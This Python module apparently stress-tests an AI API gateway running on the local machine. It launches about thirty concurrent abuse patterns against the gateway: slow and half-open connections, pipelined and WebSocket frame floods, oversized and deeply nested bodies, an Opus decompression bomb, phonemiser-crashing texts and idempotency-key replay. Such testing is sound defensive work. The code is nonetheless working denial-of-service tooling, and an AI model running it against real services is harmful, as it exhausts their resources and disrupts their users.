"""Callers who do harm, each in a way of its own, as a process apart: `python attackers.py JSON` with the fields of
`Target`. Each has a few workers, makes a pause between rounds, and ends a round after `ROUND_S`; all end after
`seconds`. "ready" is printed when they begin, and at the end, as JSON, what they were told.

They come from an address of their own (all of 127.0.0.0/8 is this machine), so that what is bounded for an address is
not bounded for the honest.
"""

import asyncio
import base64
import contextlib
import io
import json
import os
import random
import re
import resource
import socket
import sys
import uuid
from collections import Counter
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field

import aiohttp
import av
import numpy as np
from websockets.asyncio.client import connect
from websockets.exceptions import ConnectionClosed, InvalidStatus, WebSocketException

from antiphon.children import be_nice

ADDRESS = "127.0.0.66"
ROUND_S = 45
LISTEN = "/v1/listen?model=nova-3&encoding=linear16&sample_rate=16000"
CHAT, SPEECH = "/v1/chat/completions", "/v1/audio/speech"
# Unspoken by any tongue, or unspaced for long: what has killed a phonemiser, or kept it busy.
POISON = (
    *("日." * 33, "ñ." * 49, "a." * 101, "U.S." * 53, "e.g." * 50, "и." * 60, "1." * 80, "ß-" * 70, "é'" * 90),
    *("<" * 4000, "&" * 4000, "{" * 3000, "a" * 4000, "9" * 400, "🙂" * 500, "\u202e" * 200, "ا." * 99, "..." * 900),
)


@dataclass(slots=True)
class Target:
    """Whom they attack, for how long, and with what: keys of three projects. `flooding` asks for too much, `breaking`
    for what does harm in itself, `replaying` for the same again, of which `received` are the tokens that it was given.
    `only` names attacks, where not all are meant.
    """

    url: str
    flooding: str
    breaking: str
    replaying: str
    seconds: float
    only: tuple[str, ...] = ()
    received: int = 0
    opus: bytes = b""
    seen: set[str] = field(default_factory=set)


# -- how they speak ----------------------------------------------------------------------------------------------------


@contextlib.asynccontextmanager
async def wire(target: Target, buffer_bytes: int = 0):
    """A bare connection."""
    host, port = target.url.removeprefix("http://").split(":")
    sock = socket.socket()
    sock.setblocking(False)
    if buffer_bytes:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, buffer_bytes)
    sock.bind((ADDRESS, 0))
    try:
        await asyncio.get_running_loop().sock_connect(sock, (host, int(port)))
        reader, writer = await asyncio.open_connection(sock=sock)
    except OSError:
        sock.close()
        raise
    try:
        yield reader, writer
    finally:
        writer.transport.abort()


def head(path: str, *lines: str, method: str = "POST", key: str = "") -> bytes:
    said = [f"{method} {path} HTTP/1.1", "Host: h", *([f"Authorization: Bearer {key}"] if key else []), *lines]
    return "\r\n".join((*said, "", "")).encode()


async def told(reader: asyncio.StreamReader, within_s: float = 10) -> str:
    """The status that came, or how there was none."""
    try:
        async with asyncio.timeout(within_s):
            line = await reader.readline()
    except TimeoutError:
        return "silence"
    match = re.match(rb"HTTP/1.1 (\d+)", line)
    return match[1].decode() if match else "closed" if not line else "other"


async def held(reader: asyncio.StreamReader, for_s: float) -> str:
    """Waits to be cut off, and drops what comes."""
    try:
        async with asyncio.timeout(for_s):
            while await reader.read(1 << 16):
                pass
    except TimeoutError:
        return "held"
    return "cut off"


async def asked(target: Target, key: str, path: str, body: object, **headers: str) -> tuple[str, bytes]:
    """A whole answer."""
    data = body if isinstance(body, bytes) else json.dumps(body).encode()
    said = {"Authorization": f"Bearer {key}", "Content-Type": "application/json", **headers}
    connector = aiohttp.TCPConnector(local_addr=(ADDRESS, 0), force_close=True)
    async with (
        aiohttp.ClientSession(target.url, connector=connector) as http,
        http.post(path, data=data, headers=said) as answer,
    ):
        return str(answer.status), await answer.read()


def live(target: Target, path: str = LISTEN, key: str = ""):
    url = target.url.replace("http", "ws", 1) + path
    headers = {"Authorization": f"Token {key}"} if key else {}
    return connect(url, additional_headers=headers, compression=None, local_addr=(ADDRESS, 0), open_timeout=10)


def frame(opcode: int, payload: bytes = b"", final: bool = True) -> bytes:
    """A WebSocket frame of a client, masked with zeros (RFC 6455 5.2)."""
    length = len(payload)
    size = bytes([0x80 | length]) if length < 126 else bytes([0xFE]) + length.to_bytes(2, "big")
    return bytes([(0x80 if final else 0) | opcode]) + size + bytes(4) + payload


@contextlib.asynccontextmanager
async def upgraded(target: Target, path: str = LISTEN):
    """A bare WebSocket, for frames that no library sends."""
    nonce = base64.b64encode(os.urandom(16)).decode()
    lines = ("Upgrade: websocket", "Connection: Upgrade", f"Sec-WebSocket-Key: {nonce}", "Sec-WebSocket-Version: 13")
    async with wire(target) as (reader, writer):
        writer.write(head(path, *lines, method="GET", key=target.flooding))
        if (status := await told(reader)) != "101":
            raise ConnectionError(status)
        yield reader, writer


def chat(**more: object) -> dict[str, object]:
    said = [{"role": "user", "content": "Write a long story about the sea."}]
    return {"model": "gpt-4o-mini", "messages": said, **more}


def spoken(text: str, **more: object) -> dict[str, object]:
    return {"model": "tts-1", "voice": "alloy", "input": text, "response_format": "pcm", **more}


# -- what they do ------------------------------------------------------------------------------------------------------


async def poison(target: Target) -> str:
    """Texts that crash or jam what speaks."""
    return (await asked(target, target.breaking, SPEECH, spoken(random.choice(POISON))))[0]


async def trailers(target: Target) -> str:
    """Megabytes of fields after a body in chunks (RFC 9112 7.1.2), without a key."""
    async with wire(target) as (reader, writer):
        writer.write(head(CHAT, "Transfer-Encoding: chunked") + b"2\r\n{}\r\n0\r\n")
        for n in range(400):
            writer.write(b"x-%d: " % n + b"y" * 40_000 + b"\r\n")
            await writer.drain()
        writer.write(b"\r\n")
        return await told(reader)


async def trailing_key(target: Target) -> str:
    """A key where no key belongs."""
    async with wire(target) as (reader, writer):
        data = json.dumps(chat(max_completion_tokens=1)).encode()
        said = head(CHAT, "Transfer-Encoding: chunked", "Content-Type: application/json")
        writer.write(said + b"%x\r\n%b\r\n0\r\n" % (len(data), data))
        writer.write(f"Authorization: Bearer {target.breaking}\r\n\r\n".encode())
        return await told(reader)


async def silent_upload(target: Target) -> str:
    """Most of a body, and then nothing."""
    async with wire(target) as (reader, writer):
        writer.write(head("/v1/listen?model=nova-3", "Content-Length: 15000000", key=target.flooding))
        for _ in range(134):  # of five at once, all but nothing of what all may hold
            writer.write(bytes(100_000))
            await writer.drain()
        return await told(reader, ROUND_S)


async def silent_admin(target: Target) -> str:
    """A body that is announced, to the management's address, without a key."""
    async with wire(target) as (reader, writer):
        writer.write(head("/admin/v1/keys", "Content-Length: 1000", "Content-Type: application/json"))
        return await told(reader, ROUND_S)


async def schema(target: Target) -> str:
    """A tool with a number that no integer of an engine holds."""
    bounds = random.choice(({"maximum": 2**64}, {"minLength": -(2**70)}, {"multipleOf": 10**40}))
    tool = {"name": "t", "parameters": {"type": "object", "properties": {"n": {"type": "integer", **bounds}}}}
    body = chat(tools=[{"type": "function", "function": tool}], tool_choice="required", max_completion_tokens=4)
    return (await asked(target, target.breaking, CHAT, body))[0]


async def silent_stream(target: Target) -> str:
    """A live stream that takes a place and says nothing."""
    async with live(target, key=target.flooding) as stream:
        for _ in range(10):
            await asyncio.sleep(3)
            await stream.send('{"type":"KeepAlive"}')
    return "held"


async def quiet_stream(target: Target) -> str:
    """A live stream of silence, in real time."""
    async with live(target, key=target.flooding) as stream:
        for _ in range(60):
            await asyncio.sleep(0.5)
            await stream.send(bytes(16_000))
    return "held"


async def generations(target: Target) -> str:
    """As many long answers at once as one key can ask for."""
    return (await asked(target, target.flooding, CHAT, chat(max_completion_tokens=200, temperature=1)))[0]


async def padded(target: Target) -> str:
    """A small question in a body that is as large as one may be, and a long answer."""
    body = json.dumps(chat(max_completion_tokens=400)).encode() + b" " * 15_900_000
    return (await asked(target, target.flooding, CHAT, body))[0]


async def small_messages(target: Target) -> str:
    """A prompt of half a million messages, or items."""
    kind, path, of = random.choice(
        ((b"", CHAT, b"messages"), (b'"type":"message",', "/v1/responses", b"input")),
    )
    one = b"{%b" % kind + b'"role":"user","content":"a"}'
    body = b'{"model":"gpt-4o-mini","%b":[' % of + b",".join([one] * (15_000_000 // len(one) - 1)) + b"]}"
    return (await asked(target, target.breaking, path, body))[0]


async def long_text(target: Target) -> str:
    """As much as ElevenLabs takes, without a word in it."""
    body = {"text": (random.choice(("a-", "—", "\"'", "1:")) * 40_000)[:40_000]}
    url = "/v1/text-to-speech/joe/stream?output_format=pcm_24000"
    return (await asked(target, target.breaking, url, body, **{"xi-api-key": target.breaking}))[0]


async def speeches(target: Target) -> str:
    """The same of long texts."""
    return (
        await asked(target, target.flooding, SPEECH, spoken("The boats stayed where they were, and so did we. " * 80))
    )[0]


async def _paid(target: Target, **headers: str) -> str:
    """A call of the key that replays. What it was given counts, once a answer."""
    body = chat(max_completion_tokens=20, temperature=1)
    status, answer = await asked(target, target.replaying, CHAT, body, **headers)
    if status == "200":
        given = json.loads(answer)
        text = given["choices"][0]["message"]["content"]
        if text not in target.seen:
            target.seen.add(text)
            target.received += given["usage"]["completion_tokens"]
    return status


async def replay(target: Target) -> str:
    """One idempotency key for many answers, at once and after one another."""
    key = str(uuid.uuid4())
    first = await asyncio.gather(*(_paid(target, **{"Idempotency-Key": key}) for _ in range(3)))
    return " ".join(sorted({*first, await _paid(target, **{"Idempotency-Key": key})}))


async def retries(target: Target) -> str:
    """A count of retries that goes round."""
    counted = [await _paid(target, **{"x-stainless-retry-count": str(n % 3)}) for n in range(6)]
    return " ".join(sorted(set(counted)))


async def _flood(target: Target, frames: bytes, times: int, path: str = LISTEN) -> str:
    async with upgraded(target, path) as (reader, writer):
        dropping = asyncio.create_task(held(reader, ROUND_S))
        try:
            for _ in range(times):
                writer.write(frames)
                await writer.drain()
            return "held"
        finally:
            dropping.cancel()


async def fragments(target: Target) -> str:
    """A message of very many empty pieces."""
    async with upgraded(target) as (reader, writer):
        writer.write(frame(1, b"{", final=False))
        for _ in range(20):
            writer.write(frame(0, final=False) * 20_000)
            await writer.drain()
        return await held(reader, 2)


async def pings(target: Target) -> str:
    return await _flood(target, frame(9, b"p") * 20_000, 10)


async def keep_alives(target: Target) -> str:
    return await _flood(target, frame(1, b'{"type":"KeepAlive"}') * 20_000, 5)


async def small_audio(target: Target) -> str:
    """Audio in messages of one sample."""
    return await _flood(target, frame(2, bytes(2)) * 20_000, 5)


async def letters(target: Target) -> str:
    """A text, letter by letter."""
    path = "/v1/speak?model=aura-2-thalia-en&encoding=linear16&sample_rate=24000"
    return await _flood(target, frame(1, b'{"type":"Speak","text":"a"}') * 5_000, 2, path)


async def pipelined(target: Target) -> str:
    """Very many requests in one go, without a key."""
    async with wire(target) as (reader, writer):
        dropping = asyncio.create_task(held(reader, ROUND_S))
        try:
            writer.write(head("/x", method="GET") * 40_000)
            await writer.drain()
            return await dropping
        finally:
            dropping.cancel()


async def hoard(target: Target) -> str:
    """A connection on which nothing is said."""
    async with wire(target) as (reader, _):
        return await held(reader, ROUND_S)


async def half_open(target: Target) -> str:
    """A handshake that does not end."""
    async with wire(target) as (reader, writer):
        writer.write(head(LISTEN, "Upgrade: websocket", "Connection: Upgrade", method="GET")[:-2])
        return await held(reader, ROUND_S)


async def mute_socket(target: Target) -> str:
    """A WebSocket on which one never says who one is, or anything else."""
    path = random.choice(("/v1/text-to-speech/joe/stream-input", LISTEN))
    async with live(target, path, target.flooding if path == LISTEN else "") as stream, asyncio.timeout(30):
        return f"told {str(await stream.recv())[:30]}"


async def opus_bomb(target: Target) -> str:
    """Silence that is small on the wire and large in memory."""
    return (
        await asked(target, target.breaking, "/v1/listen?model=nova-3", target.opus, **{"Content-Type": "audio/ogg"})
    )[0]


async def slow_reader(target: Target) -> str:
    """Asks for much and reads nothing."""
    body = spoken("Nobody reads this, and it goes on for long. " * 90) if random.random() < 0.5 else None
    data = json.dumps(body or chat(max_completion_tokens=400, stream=True)).encode()
    lines = ("Content-Type: application/json", f"Content-Length: {len(data)}")
    async with wire(target, 4096) as (_, writer):
        writer.write(head(SPEECH if body else CHAT, *lines, key=target.flooding) + data)
        await asyncio.sleep(20)
    return "held"


async def garbage(target: Target) -> str:
    async with wire(target) as (reader, writer):
        writer.write(random.randbytes(random.choice((10, 4_000, 200_000))))
        return await told(reader)


async def nested(target: Target) -> str:
    """JSON that goes too deep, or is too much of it."""
    kinds = (b"[" * 200_000, b'{"a":' * 100_000, b"[" + b"{}," * 300_000 + b"{}]", b'{"model":"' + b"\\u0000" * 99_999)
    path = random.choice((CHAT, "/v1/embeddings", SPEECH, "/v2/models/double/infer", "/v1/responses"))
    return (await asked(target, target.breaking, path, random.choice(kinds)))[0]


async def invalid_key(target: Target) -> str:
    async with wire(target) as (reader, writer):
        writer.write(head(CHAT, "Content-Length: 2", key=f"ak_{random.randbytes(20).hex()}") + b"{}")
        return await told(reader)


async def odd_heads(target: Target) -> str:
    """Heads that RFC 9112 3.2 and common sense refuse."""
    said = random.choice(("", "Host: a\r\nHost: b\r\n", "Host: h\r\n" + "Authorization: Bearer x\r\n" * 2))
    async with wire(target) as (reader, writer):
        writer.write(f"GET /v1/models HTTP/1.1\r\n{said}\r\n".encode())
        return await told(reader)


@dataclass(frozen=True, slots=True)
class Attack:
    """By so many at once, each with a pause between its rounds."""

    act: Callable[[Target], Awaitable[str]]
    at_once: int = 1
    pause_s: float = 1.0


ATTACKS = (
    Attack(poison, 2, 1.0),
    Attack(trailers, 2, 1.0),
    Attack(trailing_key, 1, 2.0),
    Attack(silent_upload, 6, 1.0),
    Attack(silent_admin, 40, 1.0),
    Attack(schema, 2, 0.5),
    Attack(silent_stream, 20, 1.0),
    Attack(quiet_stream, 10, 1.0),
    Attack(generations, 100, 1.0),
    Attack(padded, 4, 2.0),
    Attack(small_messages, 1, 2.0),
    Attack(long_text, 1, 2.0),
    Attack(speeches, 10, 1.0),
    Attack(replay, 1, 3.0),
    Attack(retries, 1, 3.0),
    Attack(fragments, 1, 2.0),
    Attack(pings, 1, 2.0),
    Attack(keep_alives, 1, 2.0),
    Attack(small_audio, 1, 2.0),
    Attack(letters, 1, 2.0),
    Attack(pipelined, 4, 1.0),
    Attack(hoard, 300, 1.0),
    Attack(half_open, 50, 1.0),
    Attack(mute_socket, 20, 1.0),
    Attack(opus_bomb, 4, 1.0),
    Attack(slow_reader, 10, 1.0),
    Attack(garbage, 2, 0.5),
    Attack(nested, 1, 0.5),
    Attack(invalid_key, 2, 0.05),
    Attack(odd_heads, 1, 0.5),
)

FAILURES = (OSError, EOFError, aiohttp.ClientError, WebSocketException, ValueError, KeyError)


async def again_and_again(target: Target, attack: Attack, end: float, tally: Counter[str]) -> None:
    loop = asyncio.get_running_loop()
    await asyncio.sleep(random.uniform(0, 1))
    while loop.time() < end:
        try:
            async with asyncio.timeout(min(ROUND_S + 5, max(1.0, end - loop.time()))):
                result = await attack.act(target)
        except TimeoutError:
            result = "no end"
        except InvalidStatus as refused:
            result = str(refused.response.status_code)
        except ConnectionClosed as closed:
            result = f"closed {closed.rcvd.code if closed.rcvd else 'without a word'}"
        except ConnectionError as error:
            result = str(error) if str(error).isdecimal() else type(error).__name__
        except FAILURES as error:
            result = type(error).__name__
        tally[result] += 1
        await asyncio.sleep(attack.pause_s * random.uniform(0.5, 1.5))


def silent_opus(minutes: int = 20) -> bytes:
    """Ogg Opus of silence."""
    out = io.BytesIO()
    with av.open(out, "w", format="ogg") as container:
        stream = container.add_stream(
            "libopus", rate=48_000, options={"b": "6000", "vbr": "on", "frame_duration": "60"}
        )
        stream.layout = "mono"
        second = av.AudioFrame.from_ndarray(np.zeros((1, 48_000), np.int16), format="s16", layout="mono")
        second.sample_rate = 48_000
        for n in range(60 * minutes):
            second.pts = n * 48_000
            container.mux(stream.encode(second))
        container.mux(stream.encode(None))
    return out.getvalue()


async def main(target: Target) -> None:
    wanted = [attack for attack in ATTACKS if not target.only or attack.act.__name__ in target.only]
    if any(attack.act is opus_bomb for attack in wanted):
        target.opus = await asyncio.to_thread(silent_opus)
    print("ready", flush=True)
    tallies: dict[str, Counter[str]] = {attack.act.__name__: Counter() for attack in wanted}
    end = asyncio.get_running_loop().time() + target.seconds
    async with asyncio.TaskGroup() as group:
        for attack in wanted:
            for _ in range(attack.at_once):
                group.create_task(again_and_again(target, attack, end, tallies[attack.act.__name__]))
    print(json.dumps({"told": tallies, "received": target.received}))


if __name__ == "__main__":
    be_nice(19)  # what it costs to attack is not what an attack costs
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    given = json.loads(sys.argv[1])
    asyncio.run(main(Target(**{**given, "only": tuple(given.get("only", ()))})))
